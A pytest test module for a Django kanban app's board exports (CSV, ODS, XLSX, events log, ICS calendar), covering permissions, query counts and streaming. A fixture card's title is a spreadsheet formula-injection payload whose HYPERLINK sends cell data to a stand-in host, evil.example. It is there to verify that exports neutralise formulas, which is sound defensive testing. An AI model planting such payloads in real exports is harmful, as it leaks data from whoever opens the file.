"""Exports of a board: what a team member, a read-only viewer and a stranger download.

One module past 400 lines: the three formats share one board with a history and one set of
readers, and each test holds the cards, events and calendar side by side."""

import asyncio
from collections.abc import AsyncIterator, Callable, Iterator
from datetime import date, datetime
from decimal import Decimal

import pytest
from asgiref.sync import sync_to_async
from django.db import connection
from django.http import HttpResponse, HttpResponseBase, StreamingHttpResponse
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext

from officina.accounts.models import User
from officina.boards.models import Board, Label, WorkItem, WorkItemEvent
from officina.boards.services.cards import (
    work_item_create,
    work_item_set_archived,
    work_item_set_blocked,
)
from officina.boards.services.moves import work_item_move
from officina.boards.tests.factories import bulk_cards, make_board
from officina.boards.views.exports import _in_worker_thread
from officina.common.tests.readers import read_csv, read_ics, read_table
from officina.organisations.actor import Actor
from officina.organisations.models import Organisation, Team
from officina.organisations.tests.factories import TeamFactory, TeamMembershipFactory

pytestmark = pytest.mark.django_db

TABLE_FORMATS = ("csv", "ods", "xlsx")


def _client(user: User, language: str = "it") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def _it(msgid: str) -> str:
    """The text as the Italian export shows it, whether or not the catalogue is compiled yet."""
    with translation.override("it"):
        return gettext(msgid)


def export_url(name: str, board: Board) -> str:
    return reverse(
        f"boards:{name}", kwargs={"org_slug": board.organisation.slug, "board_id": board.pk}
    )


def body_of(response: HttpResponseBase) -> bytes:
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)  # type: ignore[arg-type]
    assert isinstance(response, HttpResponse)
    return response.content


# --- A board with a history -----------------------------------------------------------------


@pytest.fixture
def shared_board(team: Team) -> Board:
    """Visible to the whole organisation: read-only for the people outside the team."""
    return make_board(
        team=team,
        name="Sportello",
        visibility=Board.Visibility.ORGANISATION,
        lanes=("Attività", "Urgente"),
    )


@pytest.fixture
def worked_board(shared_board: Board, member: User, lead: User, member_actor: Actor) -> Board:
    """#1 moved to "In corso", assigned and blocked; #2 with a formula for a title, due soon;
    #3 archived; #4 done with a due date (not in the calendar)."""
    board = shared_board
    label = Label.objects.create(organisation=board.organisation, board=board, name="Comune")
    in_progress, done = board.columns.get(position=1), board.columns.get(position=2)
    first = work_item_create(
        actor=member_actor,
        board=board,
        title="Rinnovo convenzione mensa, à la carte",
        assignee_ids=[member.pk, lead.pk],
        label_ids=[label.pk],
        estimate=Decimal("3.5"),
        class_of_service=WorkItem.ClassOfService.URGENT,
        due_date=date(2026, 12, 15),
    )
    work_item_move(
        actor=member_actor,
        work_item=first,
        column=in_progress,
        swimlane=board.swimlanes.get(position=1),
    )
    work_item_set_blocked(
        actor=member_actor, work_item=first, blocked=True, reason="Manca la delibera"
    )
    work_item_create(
        actor=member_actor,
        board=board,
        title='=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        due_date=date(2026, 12, 1),
    )
    third = work_item_create(actor=member_actor, board=board, title="Vecchia pratica")
    work_item_set_archived(actor=member_actor, work_item=third, archived=True, resolution="wont_do")
    fourth = work_item_create(
        actor=member_actor, board=board, title="Fatta", due_date=date(2026, 11, 30)
    )
    work_item_move(actor=member_actor, work_item=fourth, column=done)
    return board


# --- The page -------------------------------------------------------------------------------


def test_export_page_lists_every_format_with_what_it_holds(worked_board: Board, member: User):
    response = _client(member).get(export_url("board-export", worked_board))

    assert response.status_code == 200
    page = response.content.decode()
    assert _it("Export the board") in page
    for name in (
        *(f"board-export-cards-{fmt}" for fmt in TABLE_FORMATS),
        *(f"board-export-events-{fmt}" for fmt in TABLE_FORMATS),
        "board-export-due-ics",
    ):
        assert f'href="{export_url(name, worked_board)}"' in page
    assert _it("Reason for the block") in page  # the columns of the cards file are listed
    assert response.context["summary"].cards == 4
    assert response.context["summary"].archived_cards == 1
    assert response.context["summary"].due_dates == 2


# --- Cards ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_cards_export_holds_one_row_per_card_archived_included(
    worked_board: Board, member: User, fmt: str
):
    response = _client(member, "en").get(export_url(f"board-export-cards-{fmt}", worked_board))

    assert response.status_code == 200
    assert response.streaming == (fmt == "csv"), "CSV streams; spreadsheets are built whole"
    assert response["Content-Disposition"] == (
        f'attachment; filename="bacheca-{worked_board.pk}-schede-'
        f'{timezone.localdate():%Y-%m-%d}.{fmt}"'
    )
    rows = read_table(fmt, body_of(response))
    headers = [
        "Number",
        "Title",
        "Description",
        "Assignees",
        "Labels",
        "Due date",
        "Estimate (points)",
        "Class of service",
        "Column",
        "Stage",
        "Swimlane",
        "Blocked",
        "Reason for the block",
        "Resolution",
        "Created on",
        "Started on",
        "Finished on",
        "Archived on",
        "Ready",
    ]
    assert rows[0] == headers
    cards = {row[1]: dict(zip(headers, row, strict=True)) for row in rows[1:]}
    assert len(rows) == 5
    first = cards["Rinnovo convenzione mensa, à la carte"]
    assert first["Number"] == "1"
    assert first["Assignees"] == "Marco Bertolini, Giulia Ferrari"
    assert first["Labels"] == "Comune"
    assert first["Due date"].startswith("2026-12-15")
    assert Decimal(first["Estimate (points)"]) == Decimal("3.5")
    assert first["Class of service"] == "Urgent"
    assert [first["Column"], first["Stage"], first["Swimlane"]] == [
        "In corso",
        "In progress",
        "Urgente",
    ]
    assert [first["Blocked"], first["Reason for the block"]] == ["Yes", "Manca la delibera"]
    assert first["Created on"], "created on"
    assert first["Started on"], "started on"
    assert [first["Finished on"], first["Archived on"], first["Resolution"]] == ["", "", ""]
    archived = cards["Vecchia pratica"]
    assert archived["Archived on"], "the archived card says when it was archived"
    assert archived["Resolution"] == "Won't do"
    assert cards["Fatta"]["Stage"] == "Done"
    assert cards["Fatta"]["Finished on"], "the done card says when it finished"


def test_cards_csv_headers_are_italian_by_default_and_times_carry_rome_offset(
    worked_board: Board, member: User
):
    response = _client(member).get(export_url("board-export-cards-csv", worked_board))

    rows = read_csv(body_of(response))
    assert rows[0][:3] == ["Numero", "Titolo", "Descrizione"]
    created_on = datetime.fromisoformat(rows[1][rows[0].index("Creata il")])
    assert created_on.utcoffset() == timezone.localtime().utcoffset()
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_a_title_that_looks_like_a_formula_stays_text(worked_board: Board, member: User, fmt: str):
    response = _client(member).get(export_url(f"board-export-cards-{fmt}", worked_board))

    titles = [row[1] for row in read_table(fmt, body_of(response))[1:]]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1;"clic")' in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)


def test_a_read_only_viewer_exports_what_they_can_see(
    worked_board: Board, make_employee: Callable[..., User]
):
    colleague = make_employee(first_name="Anna", last_name="Neri")  # not in the team

    response = _client(colleague).get(export_url("board-export-cards-csv", worked_board))

    assert response.status_code == 200
    assert len(read_csv(body_of(response))) == 5


def test_a_guest_exports_only_the_boards_they_are_invited_to(
    team: Team, worked_board: Board, guest: User
):
    other = make_board(team=team, name="Interna")
    worked_board.guests.add(guest)

    invited = _client(guest).get(export_url("board-export-events-csv", worked_board))
    not_invited = _client(guest).get(export_url("board-export-events-csv", other))

    assert invited.status_code == 200
    assert not_invited.status_code == 404


def test_export_page_spends_the_same_queries_for_1_and_for_30_cards(
    shared_board: Board,
    member: User,
    session_queries: int,
    django_assert_num_queries,
    warm_access,
):
    client = _client(member)
    url = export_url("board-export", shared_board)
    warm_access(member, shared_board.organisation, shared_board)
    # session, user, access generation, board, card counts, event count, header badge
    expected = session_queries + 1 + 1 + 1 + 2 + 1

    _cards_with_people(shared_board, 1, [member])
    with django_assert_num_queries(expected):
        assert client.get(url).status_code == 200
    _cards_with_people(shared_board, 29, [member])
    with django_assert_num_queries(expected):
        assert client.get(url).status_code == 200


@pytest.mark.parametrize(
    "name",
    [
        "board-export",
        *(f"board-export-cards-{fmt}" for fmt in TABLE_FORMATS),
        *(f"board-export-events-{fmt}" for fmt in TABLE_FORMATS),
        "board-export-due-ics",
    ],
)
def test_another_teams_board_is_not_found(
    organisation: Organisation, make_employee: Callable[..., User], member: User, name: str
):
    other_team = TeamFactory(organisation=organisation, name="Servizi sociali")
    TeamMembershipFactory(team=other_team, user=make_employee())
    private = make_board(team=other_team, name="Casi riservati")

    response = _client(member).get(export_url(name, private))

    assert response.status_code == 404


# --- Events ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_events_export_holds_every_change_with_moves_from_and_to(
    worked_board: Board, member: User, fmt: str
):
    response = _client(member, "en").get(export_url(f"board-export-events-{fmt}", worked_board))

    assert response.status_code == 200
    assert f"-eventi-{timezone.localdate():%Y-%m-%d}.{fmt}" in response["Content-Disposition"]
    rows = read_table(fmt, body_of(response))
    assert rows[0] == [
        "Event ID",
        "Card number",
        "Card title",
        "Event",
        "Event code",
        "When",
        "By",
        "From column",
        "To column",
        "From lane",
        "To lane",
        "From stage",
        "To stage",
        "Details",
    ]
    events = WorkItemEvent.objects.filter(board=worked_board)
    assert len(rows) == 1 + events.count()
    assert [row[4] for row in rows[1:]] == [event.kind for event in events]
    move = next(row for row in rows[1:] if row[4] == "moved")
    assert move[2:4] == ["Rinnovo convenzione mensa, à la carte", "moved"]
    assert move[6:13] == [
        "Giulia Ferrari",
        "Da fare",
        "In corso",
        "Attività",
        "Urgente",
        "Not started",
        "In progress",
    ]
    blocked = next(row for row in rows[1:] if row[4] == "blocked")
    assert "Manca la delibera" in blocked[13]


def test_events_csv_times_are_iso_8601_with_offset(worked_board: Board, member: User):
    response = _client(member).get(export_url("board-export-events-csv", worked_board))

    rows = read_csv(body_of(response))
    first = WorkItemEvent.objects.filter(board=worked_board).first()
    assert first is not None
    when = datetime.fromisoformat(rows[1][5])
    assert when.tzinfo is not None
    assert when == first.occurred_at.replace(microsecond=0)


# --- Due dates ------------------------------------------------------------------------------


def test_due_dates_calendar_has_one_all_day_event_per_open_card(worked_board: Board, member: User):
    response = _client(member).get(export_url("board-export-due-ics", worked_board))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    events = read_ics(body_of(response))
    assert [event["SUMMARY"] for event in events] == [
        '#2 =HYPERLINK("http://evil.example/?x="&A1\\;"clic")',
        "#1 Rinnovo convenzione mensa\\, à la carte",
    ]
    second = events[0]
    assert second["DTSTART;VALUE=DATE"] == "20261201"
    assert second["DTEND;VALUE=DATE"] == "20261202"
    card_path = reverse(
        "boards:card-detail",
        kwargs={
            "org_slug": worked_board.organisation.slug,
            "board_id": worked_board.pk,
            "number": 2,
        },
    )
    assert second["URL;VALUE=URI"] == f"http://testserver{card_path}"
    again = read_ics(body_of(_client(member).get(export_url("board-export-due-ics", worked_board))))
    assert [event["UID"] for event in again] == [event["UID"] for event in events]
    assert len({event["UID"] for event in events}) == 2


# --- Big boards: constant queries, streamed CSV --------------------------------------------------


def _cards_with_people(board: Board, count: int, people: list[User]) -> None:
    column, lane = board.columns.get(position=0), board.swimlanes.get(position=0)
    label = Label.objects.get_or_create(
        organisation=board.organisation, board=board, name="Comune"
    )[0]
    for card in bulk_cards(board=board, count=count, column=column, swimlane=lane):
        card.assignees.set(people)
        card.labels.add(label)


@pytest.mark.parametrize("name", ["cards-csv", "cards-ods", "cards-xlsx"])
def test_cards_export_spends_the_same_queries_for_1_and_for_30_cards(
    shared_board: Board,
    member: User,
    lead: User,
    session_queries: int,
    django_assert_num_queries,
    warm_access,
    name: str,
):
    client = _client(member)
    url = export_url(f"board-export-{name}", shared_board)
    warm_access(member, shared_board.organisation, shared_board)
    # session, user, access generation, board, cards, their assignees, their labels
    expected = session_queries + 1 + 1 + 1 + 3

    _cards_with_people(shared_board, 1, [member])
    with django_assert_num_queries(expected):
        assert len(body_of(client.get(url))) > 0

    _cards_with_people(shared_board, 29, [member, lead])
    with CaptureQueriesContext(connection) as queries:
        content = body_of(client.get(url))
    assert len(queries) == expected
    assert len(read_table(name.split("-")[1], content)) == 31


@pytest.mark.parametrize("name", ["events-csv", "events-xlsx", "due-ics"])
def test_events_and_calendar_spend_the_same_queries_for_1_and_for_10_cards(
    shared_board: Board,
    member_actor: Actor,
    member: User,
    session_queries: int,
    warm_access,
    name: str,
):
    client = _client(member)
    url = export_url(f"board-export-{name}", shared_board)
    warm_access(member, shared_board.organisation, shared_board)

    def spend() -> int:
        with CaptureQueriesContext(connection) as queries:
            body_of(client.get(url))
        return len(queries)

    work_item_create(
        actor=member_actor, board=shared_board, title="Una", due_date=timezone.localdate()
    )
    one = spend()
    for number in range(9):
        card = work_item_create(
            actor=member_actor,
            board=shared_board,
            title=f"P{number}",
            due_date=timezone.localdate(),
        )
        work_item_move(
            actor=member_actor, work_item=card, column=shared_board.columns.get(position=1)
        )
    # session, user, access generation, the board, its rows
    assert spend() == one == session_queries + 1 + 1 + 1 + 1


def test_under_asgi_the_chunks_are_read_one_at_a_time():
    read: list[int] = []

    def chunks() -> Iterator[bytes]:
        for number in range(3):
            read.append(number)
            yield str(number).encode()

    async def first_of(iterator: Iterator[bytes]) -> bytes:
        return await anext(aiter(_in_worker_thread(iterator)))

    assert asyncio.run(first_of(chunks())) == b"0"
    assert read == [0], "the rest is not read ahead"


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_csv_streams_from_the_database(team: Team, member: User):
    board = await sync_to_async(make_board)(team=team)
    column, lane = await sync_to_async(
        lambda: (board.columns.get(position=0), board.swimlanes.get(position=0))
    )()
    await sync_to_async(bulk_cards)(board=board, count=1200, column=column, swimlane=lane)
    url = await sync_to_async(export_url)("board-export-cards-csv", board)
    client = AsyncClient(HTTP_ACCEPT_LANGUAGE="it")
    await client.aforce_login(member)

    response = await client.get(url)

    assert response.status_code == 200
    assert response.streaming
    # An async iterator: given a sync one, Django under ASGI would read the whole CSV first.
    stream: AsyncIterator[bytes] = response.streaming_content  # type: ignore[attr-defined]
    chunks = [chunk async for chunk in stream]
    assert len(chunks) == 4  # the header, then 500 rows at a time
    rows = read_csv(b"".join(chunks))
    assert rows[0][0] == _it("Number")
    assert [row[0] for row in rows[1:]] == [str(number) for number in range(1, 1201)]
